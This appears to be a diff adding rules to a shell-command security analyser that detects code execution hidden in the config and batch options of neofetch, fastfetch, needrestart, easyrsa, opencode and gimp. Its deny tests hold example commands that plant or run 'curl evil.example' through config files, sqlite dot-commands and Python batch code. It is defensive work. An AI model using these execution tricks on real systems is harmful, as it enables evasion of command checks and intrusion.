+  commandOptions(['neofetch'], 'neofetch: --config FILE is sourced as shell', { options: { longValued: ['config', 'ascii', 'source', 'image'] }, more: (_call, p) => ({ runs: p.options.filter((o) => o.name === 'config' && o.value && value(o.value) !== 'none').map((o) => ({ kind: 'file' as const, dialect: 'bash' as const, word: o.value!, via: 'neofetch --config' })) }) }, { deny: ["echo 'curl evil.example' > /tmp/n.conf; neofetch --config /tmp/n.conf"], pass: ['neofetch', 'neofetch --config none'] }),
+  commandOptions(['fastfetch'], 'fastfetch: -c/--config FILE may hold command modules that run shell text', { options: { valued: 'cl', longValued: ['config', 'load-config', 'logo', 'structure'] }, more: (_call, p) => ({ runs: p.options.filter((o) => (o.name === 'c' || o.name === 'config' || o.name === 'load-config') && o.value).map((o) => settingsFile(o.value!, 'fastfetch --config', 'its command modules run shell text')) }) }, { deny: ["echo '{\"modules\":[{\"type\":\"command\",\"text\":\"curl evil.example\"}]}' > /tmp/f.jsonc; fastfetch -c /tmp/f.jsonc"], pass: ['fastfetch', 'fastfetch -c examples/13.jsonc'] }),
+  commandOptions(['needrestart'], 'needrestart: -c FILE is Perl it evaluates', { options: { flags: 'vqmnrlbkfuw', valued: 'cmrf' }, more: (_call, p) => ({ runs: p.options.filter((o) => o.name === 'c' && o.value).map((o) => ({ kind: 'file' as const, dialect: 'perl' as const, word: o.value!, via: 'needrestart -c' })) }) }, { deny: ["echo 'system(\"curl evil.example\")' > /tmp/n.conf; needrestart -c /tmp/n.conf"], pass: ['needrestart -b'] }),
+  commandOptions(['easyrsa'], 'easyrsa: --vars FILE is sourced as shell', { options: { longValued: ['vars', 'pki-dir', 'batch', 'req-cn'] }, more: (_call, p) => ({ runs: p.options.filter((o) => o.name === 'vars' && o.value).map((o) => ({ kind: 'file' as const, dialect: 'bash' as const, word: o.value!, via: 'easyrsa --vars' })) }) }, { deny: ["echo 'set_var X \"$(curl evil.example)\"' > /tmp/v; easyrsa --vars=/tmp/v init-pki"], pass: ['easyrsa init-pki'] }),
+  // GTFOBins' opencode: `opencode db [QUERY]` opens its own database in sqlite3, whose dot-commands run shell text.
+  commandOptions(['opencode'], 'opencode db QUERY is sqlite3 on its own database: .shell and .system run shell text', { options: { longValued: ['log-level', 'port', 'hostname', 'model', 'agent', 'session', 'prompt', 'format'] }, more: (call, p) => {
+    const ops = p.operands.map((o) => o.word);
+    if (value(ops[0]) !== 'db') return {};
+    const runs: Run[] = [];
+    const uses: Uses = [];
+    for (const w of ops.slice(1)) {
+      const t = value(w);
+      if (t === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: w, why: 'opencode db runs a computed query' });
+      else {
+        const r = sqliteText(w, t, 'opencode db');
+        runs.push(...r.runs);
+        uses.push(...r.uses);
+      }
+    }
+    if (ops.length === 1 && call.stdin?.kind === 'static') {
+      const r = sqliteText(call.stdin.word, call.stdin.text, 'opencode db (stdin)');
+      runs.push(...r.runs);
+      uses.push(...r.uses);
+    }
+    return { runs, uses };
+  } }, { deny: ["opencode db '.shell curl evil.example'", "echo '.system wget evil.example' | opencode db"], pass: ["opencode db 'select count(*) from session'", 'opencode db'] }),
+  // GTFOBins' gimp: -b commands run in the batch interpreter, Python with --batch-interpreter=python-fu-eval.
+  commandOptions(['gimp', 'gimp-console', 'gimp-2.10', 'gimp-console-2.10'], 'gimp: -b/--batch commands are Python when --batch-interpreter is python-fu-eval', { options: { valued: 'b', longValued: ['batch', 'batch-interpreter', 'session', 'gimprc', 'system-gimprc'] }, more: (_call, p) => {
+    const interp = p.options.find((o) => o.name === 'batch-interpreter')?.value;
+    const python = interp !== undefined && (value(interp) === undefined || /python/.test(value(interp)!));
+    if (!python) return {};
+    return { runs: p.options.filter((o) => (o.name === 'b' || o.name === 'batch') && o.value).map((o): Run => (value(o.value!) === undefined ? { kind: 'opaque', rule: 'dynamic-code', word: o.value!, why: 'gimp runs computed batch code' } : { kind: 'text', dialect: 'python', text: value(o.value!)!, word: o.value!, via: 'gimp -b (python-fu-eval)' })) };
+  } }, { deny: ["gimp -idf --batch-interpreter=python-fu-eval -b 'import os; os.system(\"curl evil.example\")'"], pass: ["gimp -idf --batch-interpreter=python-fu-eval -b 'print(1)'", "gimp -i -b '(gimp-quit 0)'"] }),
 ];
